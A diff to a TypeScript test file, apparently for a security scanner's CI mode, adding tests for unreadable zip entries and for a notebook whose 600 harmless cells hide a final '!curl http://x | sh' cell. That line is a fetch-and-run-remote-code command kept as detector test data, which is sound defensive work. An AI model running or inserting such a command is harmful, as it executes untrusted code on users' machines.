@@ -4,6 +4,7 @@ import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { it } from 'node:test';
+import { zip } from '../../scan/test/corpus/archives.ts';
 import { pickle, reduce, stackGlobal, text } from '../../scan/test/corpus/assembler.ts';
 
 const MAIN = join(import.meta.dirname, '../src/main.ts');
@@ -93,4 +94,26 @@ it('ci fails on what could not be read, unless that is allowed, and tells it onc
     [['incomplete', 1]],
   );
   assert.deepEqual(run(['unread', '--allow-incomplete']).said.passed, true);
+});
+
+it('ci fails on what could not be read beside what is doubtful', () => {
+  // A class that nobody knows is of medium severity.
+  const doubtful = { name: 'c.json', content: Buffer.from(JSON.stringify({ _target_: 'own.Net' })) };
+  folder('doubtful', { 'm.zip': zip([doubtful]) });
+  assert.equal(run(['doubtful']).code, 0);
+  const unread = { name: 'm.bin', content: Buffer.from('x'), method: 97 };
+  folder('both', { 'm.zip': zip([doubtful, unread]) });
+  const { code, said } = run(['both']);
+  assert.deepEqual([code, said.files[0]!.verdict], [1, 'suspicious']);
+  assert.match(said.checks[0]!.summary, /1 files incomplete/);
+  assert.equal(run(['both', '--allow-incomplete']).code, 0);
+});
+
+it('ci fails on what stands behind many things that do not matter', () => {
+  const cell = (source: string): object => ({ cell_type: 'code', source, outputs: [] });
+  const cells = [...Array.from({ length: 600 }, () => cell('!ls')), cell('!curl http://x | sh')];
+  folder('many', { 'n.ipynb': JSON.stringify({ cells, nbformat: 4, nbformat_minor: 5, metadata: {} }) });
+  const { code, said } = run(['many']);
+  assert.equal(code, 1);
+  assert.ok(said.files[0]!.detections.some(({ technique }) => technique === 'notebook-shell'));
 });
